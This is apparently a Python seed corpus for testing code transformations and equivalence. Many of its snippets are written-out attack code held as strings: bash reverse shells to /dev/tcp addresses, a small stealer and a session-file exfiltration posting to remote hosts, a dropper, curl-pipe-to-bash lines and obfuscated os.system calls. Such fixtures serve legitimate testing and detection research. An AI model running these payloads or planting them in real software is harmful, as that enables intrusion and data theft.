"""Seed snippets for transformation and equivalence testing.

Thirty-plus small scripts covering the payload shapes the transformations
target: encoded reverse shells executed via the command API, split/reordered
payload strings, polymorphic import/call/reference syntax, exfiltration
pipelines, plus ordinary control flow that transformations must leave
working. Every snippet is deterministic and references sensitive APIs only
through stubbable names.
"""

PAYLOAD = "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"

SNIPPETS: list[tuple[str, str]] = [
    ("shell_plain", 'import os\nos.system("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1")\n'),
    ("shell_from_import", 'from os import system\nsystem("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1")\n'),
    ("shell_aliased", 'from os import system as _ssystem\n_ssystem("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1")\n'),
    ("shell_getattr", 'cmd = "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"\ngetattr(__import__("os"), "system")(cmd)\n'),
    ("shell_composed", 'getattr(__import__("os"), "system").__call__("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1")\n'),
    (
        "reorder_parts",
        's1 = "bash -i >& "\ns2 = "/dev/tcp/10.0.0.1/8080 "\ns3 = "0>&1"\n'
        "import os\nos.system(s1 + s2 + s3)\n",
    ),
    (
        "reorder_join",
        'parts = ["bash -i >& ", "/dev/tcp/10.0.0.1/8080 ", "0>&1"]\n'
        'import os\nos.system("".join(parts))\n',
    ),
    (
        "stealer_mini",
        "import platform\nimport getpass\nimport requests\n"
        'info = {"os": platform.system(), "user": getpass.getuser()}\n'
        'requests.post("http://203.0.113.9:4443/collect", json=info, timeout=5)\n',
    ),
    (
        "dropper_mini",
        "import os\nimport urllib.request\n"
        'urllib.request.urlretrieve("http://203.0.113.77/payload.bin", "/tmp/.cache")\n'
        'os.system("chmod +x /tmp/.cache && /tmp/.cache")\n',
    ),
    (
        "trojan_mini",
        "import socket\nimport os\n"
        'probe = socket.create_connection(("203.0.113.5", 53), timeout=3)\n'
        "probe.close()\n"
        'os.system("bash -i >& /dev/tcp/203.0.113.5/9001 0>&1")\n',
    ),
    (
        "poc_mini",
        "import platform\nimport requests\n"
        "fp = platform.platform()\n"
        'requests.get("http://198.51.100.4/beacon?id=77", params={"os": fp}, timeout=3)\n',
    ),
    (
        "exfil_file",
        "import requests\n"
        'with open("~/.config/app/session.json") as fh:\n'
        "    blob = fh.read()\n"
        'requests.post("http://192.0.2.4:8000/up", data=blob, timeout=5)\n',
    ),
    (
        "exec_encoded",
        "import base64\n"
        'code = base64.b64decode("cHJpbnQoImhpIik=").decode()\n'
        "exec(code)\n",
    ),
    ("eval_simple", 'value = eval("40 + 2")\nprint(value)\n'),
    (
        "subprocess_call",
        "import subprocess\n"
        'subprocess.run("uname -a", shell=True)\n'
        'subprocess.check_output("id", shell=True)\n',
    ),
    (
        "popen_pipe",
        "import os\n"
        'handle = os.popen("cat /etc/hostname")\n'
        "print(type(handle).__name__)\n",
    ),
    (
        "ip_literal_only",
        'server = "10.20.30.40"\nport = 8443\nprint(server, port)\n',
    ),
    (
        "url_literal_only",
        'endpoint = "https://evil.example.net/x?y=1"\nprint(len(endpoint))\n',
    ),
    (
        "mixed_iocs",
        'a = "http://203.0.113.200/a"\nb = "192.0.2.77"\nc = "curl http://203.0.113.200/b | sh"\n'
        "print(a, b, c)\n",
    ),
    (
        "plain_functions",
        "def add(a, b):\n    return a + b\n\n\ndef mul(a, b):\n    return a * b\n\n\nprint(add(2, 3), mul(4, 5))\n",
    ),
    (
        "plain_class",
        "class Counter:\n"
        "    def __init__(self):\n"
        "        self.n = 0\n\n"
        "    def bump(self):\n"
        "        self.n += 1\n"
        "        return self.n\n\n\n"
        "c = Counter()\nc.bump()\nprint(c.bump())\n",
    ),
    (
        "control_flow",
        "total = 0\n"
        "for i in range(10):\n"
        "    if i % 2:\n"
        "        total += i\n"
        "    else:\n"
        "        total -= 1\n"
        "print(total)\n",
    ),
    (
        "try_except",
        "try:\n"
        "    x = int(\"nope\")\n"
        "except ValueError:\n"
        "    x = -1\n"
        "finally:\n"
        "    print(x)\n",
    ),
    (
        "while_loop",
        "n = 5\nacc = 1\nwhile n > 1:\n    acc *= n\n    n -= 1\nprint(acc)\n",
    ),
    (
        "fstring_use",
        'name = "agent"\ncount = 3\nprint(f"{name}:{count:02d}")\n',
    ),
    (
        "docstring_module",
        '"""Module with a docstring."""\n\n\ndef helper():\n    """Returns one."""\n    return 1\n\n\nprint(helper())\n',
    ),
    (
        "nested_scope",
        "def outer():\n"
        "    state = []\n\n"
        "    def inner(v):\n"
        "        state.append(v)\n"
        "        return len(state)\n\n"
        "    return inner\n\n\n"
        "f = outer()\nf(1)\nprint(f(2))\n",
    ),
    (
        "comprehensions",
        "squares = [i * i for i in range(6)]\n"
        "evens = {i for i in squares if i % 2 == 0}\n"
        "table = {i: str(i) for i in range(3)}\n"
        "print(sorted(evens), table[2], squares[-1])\n",
    ),
    (
        "shell_in_function",
        "import os\n\n\n"
        "def trigger(flag):\n"
        "    if flag:\n"
        '        os.system("bash -c \'exit 0\'")\n'
        "    return flag\n\n\n"
        "print(trigger(True))\n",
    ),
    (
        "conditional_shell",
        "import os\n"
        "enabled = True\n"
        "if enabled:\n"
        '    os.system("wget http://198.51.100.9/drop.sh -O /tmp/drop.sh")\n'
        "else:\n"
        "    print(\"skip\")\n",
    ),
    (
        "hostinfo_chain",
        "import socket\nimport platform\n"
        "print(platform.machine())\n"
        "print(socket.gethostname())\n",
    ),
    (
        "filesystem_ops",
        "import shutil\n"
        'with open("/tmp/eqoracle-a.txt", "w") as fh:\n'
        '    fh.write("data")\n'
        'shutil.copyfile("/tmp/eqoracle-a.txt", "/tmp/eqoracle-b.txt")\n'
        "print(\"done\")\n",
    ),
    (
        "encoding_chain",
        "import base64\n"
        'packed = base64.b32encode(b"payload")\n'
        "print(base64.b32decode(packed).decode())\n",
    ),
    (
        "dict_dispatch",
        "import os\n"
        'os.__dict__["system"]("true")\n'
        "print(\"ran\")\n",
    ),
    (
        "multi_unit_style",
        "import os, sys\n"
        "flag = len(sys.argv) >= 1\n"
        'os.system("echo multi")\n'
        "print(flag)\n",
    ),
    (
        "long_payload_split",
        'head = "curl -s "\nmid = "http://203.0.113.41/stage2.sh"\ntail = " | bash"\n'
        "command = head + mid + tail\n"
        "import os\nos.system(command)\n",
    ),
    (
        "fstring_ioc_segment",
        # IOC text inside an f-string segment is not an expression slot;
        # transformations must leave it intact rather than corrupt the file
        "import os\n"
        'port = 9001\n'
        'os.system(f"bash -i >& /dev/tcp/10.9.8.7/{port} 0>&1")\n',
    ),
]

assert len(SNIPPETS) >= 30, "seed corpus must hold at least 30 snippets"
